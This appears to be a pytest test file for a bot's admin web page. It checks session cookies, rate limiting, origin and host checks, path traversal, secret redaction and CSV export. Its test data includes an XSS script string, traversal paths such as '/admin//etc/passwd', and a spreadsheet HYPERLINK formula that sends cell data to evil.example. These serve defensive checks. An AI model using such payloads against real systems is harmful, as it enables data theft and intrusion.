"""The operator's page over HTTP: who may see it, and that nothing stored can act in a browser or a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import logging
import time
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from pathlib import Path
from urllib.parse import urlencode

import aiohttp
import pytest

from bot.contract import StoreError
from bot.contract.metrics import Metrics
from bot.operations import AdminPage, HttpServer, Outlet
from bot.operations.admin import Look
from bot.operations.export import as_csv
from bot.operations.session import COOKIE, SESSION_SECONDS, WINDOW, WRONG_IN_ALL, WRONG_TOKENS, Sessions, TooManyError
from bot.store import Store
from tests.bot.store.manyturns import write_turns
from tests.bot.store.test_insights import views_of
from tests.conftest import FakeClock, RawJson, RawObject
from tools.contract.base import Json

TOKEN, OTHERS = "correct-horse-battery-staple", "another-token-of-another-bot"
SECRET = "sk-0123456789abcdef0123456789"
HOSTILE = "<script>alert(1)</script>"


class Page:
    """A browser of the page on a real server, without what a browser would hide."""

    def __init__(self, session: aiohttp.ClientSession, port: int) -> None:
        self._session = session
        self.origin = f"http://127.0.0.1:{port}"

    async def get(self, path: str, **headers: str) -> tuple[int, str, Mapping[str, str]]:
        async with self._session.get(f"{self.origin}{path}", headers=headers, allow_redirects=False) as answer:
            return answer.status, await answer.text(), answer.headers

    async def post(
        self, path: str, body: RawJson = None, *, data: str | None = None, **headers: str
    ) -> tuple[int, RawObject, Mapping[str, str]]:
        sent = json.dumps(body) if data is None else data
        sent_as = {"Content-Type": "application/json", **{name.replace("_", "-"): one for name, one in headers.items()}}
        async with self._session.post(f"{self.origin}{path}", data=sent, headers=sent_as) as answer:
            return answer.status, await answer.json(), answer.headers

    async def enter(self, token: str = TOKEN) -> str:
        """Open a session; return its cookie."""
        status, _, headers = await self.post("/admin/session", {"token": token})
        assert status == 200
        return headers["Set-Cookie"].partition(";")[0]


async def told(view: str, asked: Mapping[str, str]) -> Mapping[str, Json] | None:
    if asked.get("days") == "x":
        raise ValueError("days must be a whole number")
    if asked.get("days") == "9":
        raise StoreError("the disk is away")
    if view == "turn":
        return None
    rows: list[Json] = [{"question": f"{HOSTILE} {SECRET}\x1b[31m", "dollars": 0.5, "started_at": 0.0}]
    return {"turns": rows, "view": view, "asked": dict(asked)}


@asynccontextmanager
async def served(
    clock: FakeClock, token: str = TOKEN, names: tuple[str, ...] = (), look: Look = told
) -> AsyncIterator[Page]:
    async def state() -> RawObject:
        return {}

    outlet = Outlet([SECRET])
    admin = AdminPage(token, look, outlet, clock) if token else None
    jar = aiohttp.DummyCookieJar()
    async with (
        HttpServer("127.0.0.1", 0, state, Metrics(), outlet, names, admin) as server,
        aiohttp.ClientSession(cookie_jar=jar) as session,
    ):
        yield Page(session, server.port)


@pytest.mark.soak
async def test_over_a_million_turns_each_view_answers_within_200_ms(clock: FakeClock, tmp_path: Path) -> None:
    write_turns(tmp_path / "parley.db", 1_000_000, clock.wall())
    times: dict[str, float] = {}
    async with (
        Store.open(f"sqlite:///{tmp_path}/parley.db", clock=clock) as store,
        served(clock, look=store.insights.read) as page,
    ):
        cookie = await page.enter()
        for view, parameters in views_of(1_000_000):
            path = f"/admin/data/{view}?{urlencode(parameters)}"
            took = []
            for _ in range(3):
                began = time.perf_counter()
                status, text, _ = await page.get(path, Cookie=cookie)
                took.append(time.perf_counter() - began)
            assert status == 200 and text, path
            times[path] = min(took)

    slowest = sorted(times.items(), key=lambda one: -one[1])
    print({path: round(seconds * 1000, 1) for path, seconds in slowest[:12]})
    assert {path: seconds for path, seconds in slowest if seconds > 0.2} == {}


async def test_without_a_token_there_is_no_page(clock: FakeClock) -> None:
    async with served(clock, "") as page:
        assert [(await page.get(path))[0] for path in ("/admin", "/admin/", "/admin/data/turns")] == [404] * 3
        assert (await page.get("/health"))[0] in (200, 500)


async def test_the_token_opens_a_session_and_nothing_else_does(clock: FakeClock) -> None:
    async with served(clock) as page:
        begin, _, to = await page.get("/admin")
        shell, text, headers = await page.get("/admin/")
        before = await page.get("/admin/data/turns")
        closed = json.loads((await page.get("/admin/session"))[1])
        wrong, why, refused = await page.post("/admin/session", {"token": TOKEN[:-1]})
        opened, _, given = await page.post("/admin/session", {"token": TOKEN}, X_Forwarded_Proto="https")
        cookie = given["Set-Cookie"].partition(";")[0]
        still = json.loads((await page.get("/admin/session", Cookie=cookie))[1])
        after, shown, safe = await page.get("/admin/data/turns?days=7", Cookie=cookie)
        ended, _, gone = await page.post("/admin/session/end")

    assert (begin, to["Location"], shell, before[0], wrong, opened, after, ended) == (
        *(308, "admin/", 200, 401, 401, 200, 200, 200),
    )
    assert "ADMIN_TOKEN" in why["problem"] and "Set-Cookie" not in refused and SECRET not in text + before[1]
    assert (closed, still) == ({"open": False}, {"open": True})
    flags = {part.strip() for part in given["Set-Cookie"].split(";")[1:]}
    assert flags == {"HttpOnly", f"Max-Age={SESSION_SECONDS}", "Path=/admin", "SameSite=Strict", "Secure"}
    assert f"{COOKIE}=" in gone["Set-Cookie"] and "Max-Age=0" in gone["Set-Cookie"]
    for sent in (headers, safe):
        assert "script-src 'self'" in sent["Content-Security-Policy"] and "unsafe" not in str(sent)
        assert sent["Cache-Control"] == "no-store" and sent["X-Content-Type-Options"] == "nosniff"
    [row] = json.loads(shown)["turns"]
    assert row["question"].startswith(HOSTILE) and SECRET not in shown and "\x1b" not in row["question"]
    assert json.loads(shown)["asked"] == {"days": "7"} and safe["Content-Type"].startswith("application/json")


async def test_a_forged_or_old_cookie_is_refused(clock: FakeClock) -> None:
    async with served(clock) as page, served(clock, OTHERS) as other:
        cookie = await page.enter()
        end, nonce, proof = cookie.partition("=")[2].split(".")
        forged = [
            *("", "1", "a.b.c", f"{end}.{nonce}.", f"{int(end) + 1}.{nonce}.{proof}", f"{end}.{'0' * 32}.{proof}"),
            *(f"{end}.{nonce}.{proof[::-1]}", f"{end}.{nonce}.{proof}.x", f"٣{end}.{nonce}.{proof}"),
            (await other.enter(OTHERS)).partition("=")[2],
        ]

        refused = [
            (await page.get("/admin/data/turns", Cookie=f"{COOKIE}={one}"))[0] for one in forged if one.isascii()
        ]
        exported = (await page.get("/admin/export/turns.csv", Cookie=f"{COOKIE}=x"))[0]
        good = (await page.get("/admin/data/turns", Cookie=cookie))[0]
        clock.started += SESSION_SECONDS + 1
        late = (await page.get("/admin/data/turns", Cookie=cookie))[0]

    assert set(refused) == {401} and (exported, good, late) == (401, 200, 401)
    assert not Sessions(TOKEN, clock).accepts(forged[-2])


async def test_a_session_of_one_process_is_one_of_every_process(clock: FakeClock) -> None:
    async with served(clock) as one, served(clock) as other:
        assert (await other.get("/admin/data/turns", Cookie=await one.enter()))[0] == 200


async def test_guessing_is_slowed_down_and_logged_once(clock: FakeClock, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO)
    async with served(clock) as page:
        held = await page.enter()
        tries = [(await page.post("/admin/session", {"token": f"guess {n}"}))[0] for n in range(WRONG_TOKENS + 2)]
        right, _, headers = await page.post("/admin/session", {"token": TOKEN})
        still = (await page.get("/admin/data/turns", Cookie=held))[0]
        await clock.advance(WINDOW + 1)
        later = (await page.post("/admin/session", {"token": TOKEN}))[0]

    assert tries == [401] * WRONG_TOKENS + [429] * 2
    assert (right, still, later) == (429, 200, 200) and 0 < int(headers["Retry-After"]) <= WINDOW + 1
    assert "guess" not in caplog.text and TOKEN not in caplog.text
    assert sum("a wrong token" in line for line in caplog.messages) == 1


def test_guessing_from_many_addresses_is_slowed_down_too(clock: FakeClock) -> None:
    sessions = Sessions(TOKEN, clock)
    for number in range(WRONG_IN_ALL):
        assert sessions.open("\udc80" * 9, f"10.0.0.{number}") is None
    with pytest.raises(TooManyError, match="60 s"):
        sessions.open(TOKEN, "10.0.1.1")


@pytest.mark.parametrize(
    ("body", "headers", "status"),
    [
        ('{"token": "' + TOKEN + '"}', {"Origin": "http://evil.example"}, 403),
        ('{"token": "' + TOKEN + '"}', {"Origin": "null"}, 403),
        ("token=" + TOKEN, {"Content_Type": "application/x-www-form-urlencoded"}, 403),
        ('{"token": "' + TOKEN + '"}', {"Content_Type": "text/plain"}, 403),
        ("x" * 5_000, {}, 413),
        ("[" * 3_000, {}, 400),
        ('["' + TOKEN + '"]', {}, 400),
        ('{"token": 7}', {}, 400),
        ("{}", {}, 400),
    ],
)
async def test_another_site_s_post_or_what_is_no_token_opens_nothing(
    body: str, headers: dict[str, str], status: int, clock: FakeClock
) -> None:
    async with served(clock) as page:
        got, _, sent = await page.post("/admin/session", data=body, **headers)

    assert got == status and "Set-Cookie" not in sent


async def test_a_request_for_another_host_is_refused(clock: FakeClock) -> None:
    async with served(clock, names=("bot.example.org",)) as page:
        cookie = await page.enter()
        paths = ("/admin", "/admin/", "/admin/data/turns", "/admin/export/turns.csv")
        foreign = [(await page.get(path, Host="evil.example", Cookie=cookie))[0] for path in paths]
        posted = await page._session.post(
            f"{page.origin}/admin/session", json={"token": TOKEN}, headers={"Host": "evil.example"}
        )
        own = (await page.get("/admin/data/turns", Host="bot.example.org", Cookie=cookie))[0]

    assert foreign == [421] * 4 and posted.status == 421 and own == 200


@pytest.mark.parametrize(
    "path",
    [
        *(
            "/admin/../state",
            "/admin/..%2f..%2fhttp.py",
            "/admin/%2e%2e/http.py",
            "/admin/http.py",
            "/admin/index.html%00",
        ),
        *("/admin/page/index.html", "/admin//etc/passwd", "/admin/data/../../state", "/admin/data/nothing"),
        *("/admin/export/turns.html", "/admin/export/..%2fturns.csv", "/admin/session/end"),
    ],
)
async def test_no_path_leads_anywhere_else(path: str, clock: FakeClock) -> None:
    from yarl import URL

    async with served(clock) as page:
        cookie = await page.enter()
        async with page._session.get(URL(f"{page.origin}{path}", encoded=True), headers={"Cookie": cookie}) as answer:
            assert answer.status in (400, 404, 405), await answer.text()


async def test_what_goes_wrong_is_one_sentence(clock: FakeClock) -> None:
    async with served(clock) as page:
        cookie = await page.enter()
        asked = ("data/turns?days=x", "data/turns?days=9", "data/turn", "export/turn.csv")
        found = [await page.get(f"/admin/{path}", Cookie=cookie) for path in asked]

    assert [status for status, *_ in found] == [400, 503, 404, 404]
    assert json.loads(found[1][1]) == {"problem": "the disk is away"}


async def test_a_view_is_exported_as_it_is_shown(clock: FakeClock) -> None:
    async with served(clock) as page:
        cookie = await page.enter()
        _, table, headers = await page.get("/admin/export/turns.csv?days=7", Cookie=cookie)
        _, document, kinds = await page.get("/admin/export/turns.json", Cookie=cookie)

    assert headers["Content-Disposition"] == 'attachment; filename="parley-turns.csv"'
    assert headers["Content-Type"] == "text/csv; charset=utf-8" and kinds["Content-Type"].startswith("application/json")
    [row] = csv.DictReader(io.StringIO(table.removeprefix("\ufeff")))
    assert row["question"].startswith(HOSTILE) and SECRET not in table + document
    assert (row["dollars"], row["started_at"]) == ("0.5", "1970-01-01T00:00:00+00:00")
    assert json.loads(document)["turns"][0]["dollars"] == 0.5


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\ufeff=", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula(sign: str) -> None:
    hostile = f'{sign}HYPERLINK("http://evil.example?"&A1)'
    rows: list[Json] = [{"name": hostile, hostile: 1, "arguments": {"x": hostile}, "dollars": -0.5}]

    written = list(csv.reader(io.StringIO(as_csv("turns", {"turns": rows}).removeprefix("\ufeff"), newline="")))

    assert [row[0] for row in written] == ["name", f"'{hostile}"] and written[1][3] == "-0.5"
    assert written[0][1].startswith("'") and written[1][2].startswith('{"x"')
